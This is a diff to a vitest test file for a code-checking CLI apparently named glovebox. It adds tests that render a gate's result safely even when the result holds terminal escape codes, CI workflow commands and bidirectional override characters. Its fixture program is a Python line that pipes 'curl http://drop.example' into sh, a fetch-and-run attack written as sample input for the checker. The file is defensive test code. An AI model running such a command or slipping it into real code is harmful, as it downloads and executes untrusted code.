@@ -3,7 +3,9 @@ import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { filledReport } from '../report/formats/filled.fixture.ts';
+import { GATE_FORMATS } from '../gate/render/formats.ts';
+import { gateJsonSchema } from '../gate/result.ts';
+import { type Filling, filled, filledReport } from '../report/formats/filled.fixture.ts';
 
 const BIN = join(import.meta.dirname, '../../bin/glovebox.js');
 const PROGRAM = 'import os\nos.system("curl http://drop.example | sh")\n';
@@ -54,6 +56,26 @@ describe('check --output', () => {
     ]);
     const lost = glovebox(['check', '--depth', 'quick', '--output', join(folder, 'none/r.html'), join(folder, 'a.py')]);
     expect([lost.status, lost.stderr]).toEqual([2, expect.stringContaining('could not be written')]);
+  });
+});
+
+describe('render of a gate’s result', () => {
+  const result = (text: string) => JSON.stringify(filled(gateJsonSchema() as Filling, text));
+
+  it.each(GATE_FORMATS)('writes %s, with nothing hostile in it that acts', (format) => {
+    const { status, stdout } = glovebox(
+      ['render', '-', '--format', format],
+      result('\u001b[2J::error::x ##[group]\u202e'),
+    );
+    expect([status, /\u001b|\u202e|##\[/.exec(stdout)?.[0]]).toEqual([0, undefined]);
+    expect(stdout.length).toBeGreaterThan(50);
+  });
+
+  it('has no page, and no single program to show', () => {
+    const page = glovebox(['render', '-', '--format', 'html'], result('x'));
+    expect([page.status, page.stderr]).toEqual([2, expect.stringContaining('is not written as html')]);
+    const sample = glovebox(['render', '-', '--sample', join(folder, 'a.py')], result('x'));
+    expect([sample.status, sample.stderr]).toEqual([2, expect.stringContaining('no single program')]);
   });
 });
 
